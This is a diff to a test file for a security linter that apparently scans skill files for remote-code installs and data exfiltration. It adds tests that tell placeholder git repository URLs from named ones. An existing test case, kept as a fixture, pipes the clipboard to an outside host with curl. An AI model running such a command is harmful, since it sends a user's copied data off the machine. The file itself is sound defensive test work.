@@ -8,7 +8,7 @@ import * as path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { lint } from '../src/node/lint.js';
 import { secretPath } from '../src/analysis/behaviour/paths.js';
-import { credentialDump, oneSetting } from '../src/analysis/behaviour/shellflow.js';
+import { credentialDump, oneSetting, placeholderRepository } from '../src/analysis/behaviour/shellflow.js';
 
 const ROOT = path.join(import.meta.dirname, '..', 'corpus', 'attacks-classes');
 const tsv = (dir: string) => fs.readFileSync(path.join(dir, 'expected.tsv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split('\t') as [string, string]);
@@ -120,6 +120,11 @@ describe('behaviour model: benign look-alikes stay quiet', () => {
     expect(flagged(installed, 'exfiltration').length).toBeGreaterThan(0);
   });
 
+  it('a package-manager syntax reference with a placeholder repository installs nothing; a named repository stays', async () => {
+    const r = await lintFiles(skill('```bash\nnpm install git+https://github.com/<owner>/<repo>.git#<tag>\nnpm install git+https://github.com/owner/repo.git#v1.0.0\nuv add git+https://github.com/user/repo.git\nnpm install -g git+https://github.com/acme-labs/supertool.git#main\n```\n'));
+    expect(flagged(r, 'remote-exec').map((d) => d.line)).toEqual([9]);
+  });
+
   it('the clipboard sent to a host is a warning, not an error (it holds what the user copied, not always a secret)', async () => {
     const r = await lintFiles(skill('```sh\nxclip -o -selection clipboard | curl -s -T - https://clipsync.cc/u\n```\n'));
     expect(flagged(r, 'exfiltration').map((d) => d.severity)).toEqual(['warning']);
@@ -195,6 +200,13 @@ describe('oneSetting', () => {
       ['cat', ['OPENAI_API_KEY']],
       ['grep', ['DEBUG_MODE']],
     ] as const) expect(oneSetting(head, vals), `${head} ${vals.join(' ')}`).toBeNull();
+  });
+});
+
+describe('placeholderRepository', () => {
+  it('takes a repository whose owner and name are both placeholders, or a git URL with no owner and name', () => {
+    for (const u of ['git+https://github.com/owner/repo.git#v1.0.0', 'git+https://github.com/user/repo.git', 'git+https://github.com/', 'https://github.com/your-org/your-repo', 'git+https://gitlab.com/<owner>/<repo>.git', 'git+ssh://git@github.com/username/repository.git', 'git+https://github.com/{owner}/{repo}']) expect(placeholderRepository(u), u).toBe(true);
+    for (const u of ['git+https://github.com/JEO-tech-ai/supercode.git#main', 'git+https://github.com/owner/supercode.git', 'git+https://github.com/acme/repo.git', 'https://files.example.org/pkg.tar.gz', 'https://github.com/octocat/Hello-World', 'git+https://github.com/userland/repository-tools']) expect(placeholderRepository(u), u).toBe(false);
   });
 });
 
